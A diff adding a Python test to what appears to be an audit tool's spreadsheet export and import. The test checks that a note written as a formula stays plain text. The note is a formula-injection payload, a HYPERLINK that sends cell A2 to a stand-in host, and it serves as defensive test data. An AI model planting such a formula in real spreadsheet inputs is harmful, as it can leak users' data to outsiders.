@@ -266,3 +266,16 @@ def test_answers_and_evidence_commit_together(world, draft):
     root.unlink()
     done = confirm_unpack(world, preview, actor=INSPECTOR)
     assert (done.written, done.evidence_added) == (1, 1)
+
+
+def test_a_note_that_looks_like_a_formula_stays_text_both_ways(world, draft):
+    view = get_audit(world, draft)
+    ref = view.specs[0].ref
+    note = '=HYPERLINK("http://x/?"&A2,"x")'
+    save_answers(world, draft, [AnswerInput(item_ref=ref, result=Result.MINOR, note=note)],
+                 expected_version=view.row_version, actor=INSPECTOR)
+    data = pack_audit(world, draft)
+    cell = _book(data)[wb.SHEET].cell(row=_row_of(_book(data), ref), column=wb.COL_NOTE)
+    assert cell.data_type == "s" and cell.value == note
+    preview = preview_unpack(world, draft, data, "p.xlsx")
+    assert preview.count(wb.Change.CHANGED) == 0 and not preview.conflicts
